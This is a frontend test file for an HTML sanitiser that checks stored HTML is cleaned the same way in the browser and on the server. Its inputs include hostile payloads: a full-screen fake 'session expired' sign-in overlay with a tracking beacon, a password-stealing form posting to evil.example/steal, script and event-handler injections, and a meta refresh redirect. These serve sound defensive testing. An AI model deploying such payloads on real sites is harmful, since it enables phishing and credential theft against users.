import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { serverHtmlEngine } from '../../../../common/storedHtml/serverHtmlEngine';
import { SafeHtml } from '../../../../src/shared/ui/SafeHtml';

/** Issue 16 §3: a technician's html attribute value that covers the page with a sign-in link and calls out. */
const OVERLAY =
  '<a href="http://evil.example/login" style="position:fixed;inset:0;z-index:9999;display:block;width:100vw;height:100vh;background:#fff;font-size:48px">Session expired — click to sign in</a>' +
  '<img src="http://evil.example/beacon.gif">';

/**
 * The two places stored HTML is sanitised, held to the same rules: the page (DOMPurify in its DOM)
 * and a screen drawn on the server (serverHtmlEngine, no DOM; its output then read by this page).
 */
const renderers: [string, (html: string) => HTMLElement][] = [
  ['in the page', (html) => render(<SafeHtml html={html} />).container.firstElementChild as HTMLElement],
  [
    'in a screen drawn on the server',
    (html) => {
      const box = document.createElement('div');
      box.innerHTML = serverHtmlEngine(window.location.href).sanitize(html);
      return document.body.appendChild(box);
    },
  ],
];

/** Every style attribute left in the output, lower-cased. */
const styles = (box: HTMLElement) => [box, ...box.querySelectorAll('*')].slice(1).map((element) => (element.getAttribute('style') ?? '').toLowerCase());

describe.each(renderers)('SafeHtml (DESIGN §7), %s', (_where, rendered) => {
  it('keeps formatting and drops scripts, handlers and javascript: links', () => {
    const box = rendered('<p>Check <em>valve</em></p><script>alert(1)</script><img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(2)"><a href="javascript:alert(3)" onclick="alert(4)">x</a><svg><script>alert(5)</script></svg>');
    expect(box.querySelector('em')).toHaveTextContent('valve');
    expect(box.querySelector('script')).toBeNull();
    expect(box.querySelector('svg')).toBeNull();
    expect(box.querySelector('img')).toHaveAttribute('src', 'data:image/png;base64,iVBORw0KGgo=');
    expect(box.querySelector('img')).not.toHaveAttribute('onerror');
    expect(box.querySelector('a')).not.toHaveAttribute('href');
    expect(box.querySelector('a')).not.toHaveAttribute('onclick');
  });

  it('renders nothing for empty input', () => {
    expect(rendered('')).toBeEmptyDOMElement();
    expect(render(<SafeHtml html={null} />).container.firstElementChild).toBeEmptyDOMElement();
  });

  it('takes the overlay payload apart: no positioning, no outside image, the link opens a new tab', () => {
    const box = rendered(OVERLAY);
    const link = box.querySelector('a');
    expect(link).toHaveTextContent('Session expired — click to sign in');
    expect(link).toHaveAttribute('href', 'http://evil.example/login');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    // Its white background may stay; nothing that places or sizes it does.
    expect(box.innerHTML).not.toMatch(/position|inset|z-index|display|width|height|font-size/i);
    expect(box.innerHTML).not.toContain('evil.example/beacon');
  });

  it('keeps colour and emphasis in a style and drops what moves, sizes, layers or loads', () => {
    const box = rendered(
      '<span style="color: red; font-weight: bold; background-image: url(http://evil.example/bg.png)">hot</span>' +
        '<p style="position: sticky; top: 0; transform: scale(40); margin: -500px; padding: 900px; font-size: 400px; text-align: center">big</p>' +
        '<div style="color: red;background:url(http://evil.example/a.png)">x</div>' +
        '<b style="color: expression(alert(1)); background-color: #ffcc00">y</b>',
    );
    const element = (tag: string) => box.querySelector(tag) as HTMLElement;
    const [hot, big, red, bold] = [element('span'), element('p'), element('div'), element('b')];
    expect(hot.style.color).toBe('red');
    expect(hot.style.fontWeight).toBe('bold');
    expect(big.style.textAlign).toBe('center');
    expect(red.style.color).toBe('red');
    expect(bold.style.backgroundColor).not.toBe('');
    expect(bold.style.color).toBe('');
    for (const style of styles(box)) expect(style).not.toMatch(/url|expression|position|top|transform|margin|padding|font-size/);
  });

  it('drops code, styles, media and frames with what is inside them, and keeps the text of the controls it unwraps', () => {
    const box = rendered(
      '<svg><text>svg text</text></svg><math><mi>x</mi></math><template>template text</template><noscript>noscript text</noscript>' +
        '<iframe>frame text</iframe><video>video text</video><audio>audio text</audio><select><option>option text</option></select>' +
        '<textarea>textarea text</textarea><form>form text</form><button>button text</button>',
    );
    expect(box.textContent).toBe('option texttextarea textform textbutton text');
  });

  it('opens every link in a new tab without telling it where it came from, whatever the author wrote', () => {
    const box = rendered('<a href="https://plant.example/manual.pdf" target="_self" rel="opener">Manual</a>');
    const link = box.querySelector('a');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('loads images only from data: or our own API files', () => {
    const box = rendered(
      [
        '<img alt="photo" src="/api/file/abc123">',
        `<img alt="absolute" src="${window.location.origin}/api/file/def456">`,
        '<img alt="data" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
        '<img alt="outside" src="https://evil.example/beacon.gif">',
        '<img alt="protocol-relative" src="//evil.example/api/file/abc">',
        '<img alt="escape" src="/api/file/../../evil">',
        '<img alt="not a file" src="/api/user/1">',
        '<img alt="srcset" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://evil.example/a.png 2x">',
      ].join(''),
    );
    const src = (alt: string) => box.querySelector(`img[alt="${alt}"]`)?.getAttribute('src') ?? null;
    expect(src('photo')).toBe('/api/file/abc123');
    expect(src('absolute')).toBe(`${window.location.origin}/api/file/def456`);
    expect(src('data')).toMatch(/^data:image\/gif/);
    for (const alt of ['outside', 'protocol-relative', 'escape', 'not a file']) expect(src(alt)).toBeNull();
    expect(box.querySelector('img[srcset]')).toBeNull();
    expect(box.innerHTML).not.toContain('evil.example');
  });

  it('drops forms, buttons, <style>, <link>, <meta>, media, dialogs and the page\'s own classes', () => {
    const box = rendered(
      '<style>body{background:url(https://evil.example/s.png)}</style>' +
        '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example">' +
        '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>' +
        '<picture><source srcset="https://evil.example/p.png"><img alt="pic" src="/api/file/ok1"></picture>' +
        '<video poster="https://evil.example/v.png"><source src="https://evil.example/v.mp4"></video>' +
        '<table background="https://evil.example/t.png" width="5000" cellpadding="900"><tr><td>cell</td></tr></table>' +
        '<dialog open>modal</dialog><div class="MuiBackdrop-root css-919eu4" id="root">classed</div><div popover role="dialog" tabindex="0">pop</div>',
    );
    for (const tag of ['style', 'link', 'meta', 'form', 'input', 'button', 'picture', 'source', 'video', 'dialog']) expect(box.querySelector(tag)).toBeNull();
    expect(box.innerHTML).not.toContain('evil.example');
    expect(box.querySelector('table')?.attributes).toHaveLength(0);
    expect(box.querySelector('[class], [id], [popover], [role], [tabindex]')).toBeNull();
    expect(box).toHaveTextContent('classed');
  });
});
